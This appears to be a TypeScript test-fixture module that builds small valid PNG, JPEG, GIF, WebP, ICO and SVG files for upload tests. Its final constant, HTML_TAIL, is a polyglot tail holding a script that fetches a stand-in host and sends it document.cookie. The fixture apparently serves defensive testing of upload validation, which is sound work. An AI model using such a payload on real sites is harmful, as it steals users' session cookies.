// Small real images of each type an upload takes (PNG, JPEG, GIF, WebP, ICO, SVG), built from their structures, for the
// upload tests: each ends exactly where its format says it ends.
import { deflateSync } from 'node:zlib';

/** A PNG chunk: its length, type, data and a CRC left zero (the server does not read it). */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
}

/** A 2x2 PNG (signature, IHDR, IDAT, IEND). */
export function png(): Buffer {
  const ihdr = Buffer.from([0, 0, 0, 2, 0, 0, 0, 2, 8, 6, 0, 0, 0]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.alloc(18, 0x7f))), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG marker segment: 0xFF, the marker, the big-endian length (counting itself) and the data. */
export function jpegSegment(marker: number, data: Uint8Array): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

/** A baseline JPEG's structure: SOI, APP0 (JFIF), SOF0, SOS with scan data (a stuffed 0xFF00 and a restart marker), EOI. */
export function jpeg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jpegSegment(0xe0, Buffer.from([...Buffer.from('JFIF\0'), 1, 1, 0, 0, 1, 0, 1, 0, 0])),
    jpegSegment(0xc0, Buffer.from([8, 0, 1, 0, 1, 1, 1, 0x11, 0])),
    jpegSegment(0xda, Buffer.from([1, 1, 0, 0, 0x3f, 0])),
    Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0xd9]),
  ]);
}

/** A 1x1 GIF89a: screen descriptor, global colour table, a graphic control extension, one image, the trailer. */
export const gif = () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** A WebP: a RIFF container whose length counts the WEBP form and one VP8L chunk. */
export function webp(): Buffer {
  const data = Buffer.from([0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0]);
  const chunk = Buffer.concat([Buffer.from('VP8L'), Buffer.from([data.length, 0, 0, 0]), data]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), chunk]);
}

/** An ICO holding one PNG image. */
export function ico(): Buffer {
  const image = png();
  const entry = Buffer.alloc(16);
  entry.set([2, 2, 0, 0, 1, 0, 32, 0]);
  entry.writeUInt32LE(image.length, 8);
  entry.writeUInt32LE(6 + 16, 12);
  return Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), entry, image]);
}

/** A plain SVG: shapes, a gradient and a use of it by fragment. */
export const svg = (inside = '') =>
  Buffer.from(
    `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 32 32"><defs><linearGradient id="g"><stop offset="0" stop-color="#166534"/></linearGradient><circle id="c" cx="16" cy="16" r="12"/></defs><use href="#c" fill="url(#g)"/><use xlink:href="#c"/>${inside}</svg>`,
  );

/** What a polyglot carries after the image's end. */
export const HTML_TAIL = Buffer.from('<html><body><script>fetch("https://probe.example/?c="+document.cookie)</script></body></html>');
